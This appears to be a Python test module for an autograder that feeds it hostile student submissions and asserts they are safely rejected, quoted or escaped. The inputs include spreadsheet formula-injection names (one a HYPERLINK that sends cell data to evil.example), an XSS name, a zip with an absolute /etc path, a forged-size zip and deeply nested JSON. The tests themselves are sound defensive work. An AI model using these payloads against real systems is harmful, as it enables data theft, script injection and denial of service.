"""Attacks on what the grader reads and what instructors see: malformed notebooks and
archives, names that are formulas, HTML or near-duplicates, a returned picture far too
large, a student folder called ``submitted``.

Each is a student of the same batch as `attacks.build_attacks`; ``expect_out`` checks
the batch's files (``gradebook.csv``, ``nbgrader_grades.csv``, ``feedback/``,
``gradescope/``, ``gradebook.sqlite``) as well.
"""

import csv
import json
import sqlite3
import struct

from attacks import Attack, exercise_is, same_as, unit_is, unreadable, with_solutions, activations, WRONG_SIGMOID

from autograder.authoring import samples
from autograder.intake import loader
from autograder.grading import images
from autograder.reports.feedback import safe_filename

CONVOLUTION = samples.solution_source("convolution")
BIG_SIDE = 2048
FORMULA_NAMES = ('=HYPERLINK("evil.example?"&A1,"click")', "+1+2", "-2+3+cmd", "@SUM(A1:A9)")
HTML_NAME = "<img src=x onerror=alert(1)>"


def _csv_cells(path):
    with open(path, encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def no_formula_in_csv(name):
    def check(result, out):
        for file in ("gradebook.csv", "nbgrader_grades.csv"):
            cells = _csv_cells(out / file)
            assert "'" + name in cells, (file, name)
            assert name not in cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], file
    return check


def own_page(name, *, passed):
    """``name`` has its own feedback page and Gradescope result, showing its own score."""
    def check(result, out):
        page = (out / "feedback" / f"{safe_filename(name)}.html").read_text(encoding="utf-8")
        assert f'data-submission="{name}"' in page
        others = [n for n in ("bob~1", "bob_1") if n != name]
        assert not [n for n in others if f'data-submission="{n}"' in page]
        assert ('class="banner good"' in page) == passed
        gradescope = json.loads((out / "gradescope" / safe_filename(name) / "results.json").read_text("utf-8"))
        assert gradescope["score"] == result.score
    return check


def escaped_on_its_page(name):
    def check(result, out):
        page = (out / "feedback" / f"{safe_filename(name)}.html").read_text(encoding="utf-8")
        assert name not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
        assert "<img src=x" not in page and "<script" not in page
    return check


def small_reports(result, out):
    """A 2048² returned image: a bounded page and gradebook rows, and the page says so."""
    page_path = out / "feedback" / f"{safe_filename('returns_a_2048_image')}.html"
    page = page_path.read_text(encoding="utf-8")
    assert page_path.stat().st_size < 300_000
    assert f"shown downsampled from {BIG_SIDE}×{BIG_SIDE}" in page.lower()
    with sqlite3.connect(out / "gradebook.sqlite") as db:
        (content_hash,) = db.execute("SELECT content_hash FROM students WHERE student=?",
                                     ("returns_a_2048_image",)).fetchone()
        pictures, largest = db.execute("SELECT COUNT(*), MAX(LENGTH(png)) FROM images WHERE content_hash=?",
                                       (content_hash,)).fetchone()
        messages = db.execute("SELECT MAX(LENGTH(message)) FROM items WHERE content_hash=?",
                              (content_hash,)).fetchone()[0]
    assert pictures >= 2 and largest <= images.MAX_PNG_BYTES and messages < 50_000


def _notebook(cells):
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def _answer(**nbgrader):
    return {"cell_type": "code", "metadata": {"nbgrader": nbgrader}, "source": "def sigmoid(x):\n    return x\n"}


def _with_notebook(data):
    return {"convolution.py": CONVOLUTION, "02_activations.ipynb": data}


def _forged_size_zip():
    data = bytearray(loader.zip_bytes({"activations.py": samples.solution_source("activations")}))
    central = data.rfind(b"PK\x01\x02")
    data[central + 24:central + 28] = struct.pack("<I", 0xFFFFFFF0)  # "uncompressed size": 4 GB
    return bytes(data)


def unit_unreadable(message):
    return unit_is("activations", "error", message=message)


def build(host_tmp):
    """The report and intake attacks (``host_tmp`` is unused: none of them writes)."""
    big = (f"    return np.random.default_rng(0).random(({BIG_SIDE}, {BIG_SIDE})) * 255\n")
    median = CONVOLUTION.replace("def median_filter(image, size=3):\n", "def median_filter(image, size=3):\n" + big, 1)
    assert median != CONVOLUTION
    attacks = [
        Attack("deep_json_notebook", "a notebook of 5000 nested JSON lists",
               _with_notebook("[" * 5000 + "]" * 5000), expect=unit_unreadable("nests more than 64 levels")),
        Attack("notebook_metadata_list", "a notebook whose cell metadata is a list",
               _with_notebook(_notebook([{"cell_type": "code", "metadata": [1], "source": "x = 1"}])),
               expect=unit_unreadable("metadata should be a JSON object, but it is a list")),
        Attack("notebook_grade_id_list", "a notebook whose grade_id is a list",
               _with_notebook(_notebook([_answer(grade_id=["answer_sigmoid"], solution=True)])),
               expect=unit_unreadable("grade_id should be text, but it is a list")),
        Attack("notebook_cells_not_list", "a notebook whose cells are an object",
               _with_notebook(json.dumps({"cells": {"0": _answer(grade_id="answer_sigmoid", solution=True)}})),
               expect=unit_unreadable("has no list of cells")),
        Attack("notebook_not_utf8", "a notebook in Latin-1",
               _with_notebook(_notebook([_answer(grade_id="answer_sigmoid", solution=True)]).replace(
                   "return x", "return x  # café").encode("latin-1")),
               expect=unit_unreadable("is not UTF-8 text")),
        Attack("notebook_is_binary", "a PNG image named 02_activations.ipynb",
               _with_notebook(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4),
               expect=unit_unreadable("is a binary file (PNG image)")),
        Attack("zip_forged_sizes", "a zip whose member claims to be 4 GB", archive=_forged_size_zip(),
               expect=unreadable("is larger than 2 MB")),
        Attack("zip_absolute_path", "a zip whose member is /etc/activations.py",
               archive=loader.zip_bytes({"/etc/activations.py": samples.solution_source("activations")}),
               expect=unreadable("unsafe path")),
        Attack("zip_not_a_zip", "a text file named .zip", archive=b"this is not an archive\n",
               expect=unreadable("is not a valid zip archive")),
        Attack("returns_a_2048_image", f"median_filter returns a {BIG_SIDE}×{BIG_SIDE} image (its page must stay "
               "under 300 KB and say the picture is downsampled; no stored picture over 256 KiB)",
               with_solutions(convolution=median),
               expect=exercise_is("median_filter", "failed"), expect_out=small_reports),
        Attack("bob~1", "named bob~1 (and wrong): its own feedback page and Gradescope result, not bob_1's",
               with_solutions(activations=activations("", WRONG_SIGMOID)),
               expect=same_as("control_wrong_sigmoid"), expect_out=own_page("bob~1", passed=False)),
        Attack("bob_1", "named bob_1 (and right): its own feedback page and Gradescope result, not bob~1's",
               with_solutions(), expect=same_as("control_solution"), expect_out=own_page("bob_1", passed=True)),
        Attack(HTML_NAME, "a name that is HTML (it must appear escaped on its page)",
               with_solutions(activations=activations("", WRONG_SIGMOID)),
               expect=same_as("control_wrong_sigmoid"), expect_out=escaped_on_its_page(HTML_NAME)),
        Attack("submitted", "a student folder called submitted (nbgrader's folder name: the rest of the class "
               "must still be graded)", with_solutions(), expect=same_as("control_solution")),
    ]
    for name in FORMULA_NAMES:
        attacks.append(Attack(name, "a name that a spreadsheet runs as a formula (quoted in gradebook.csv and "
                              "nbgrader_grades.csv)", with_solutions(),
                              expect=same_as("control_solution"), expect_out=no_formula_in_csv(name)))
    return attacks
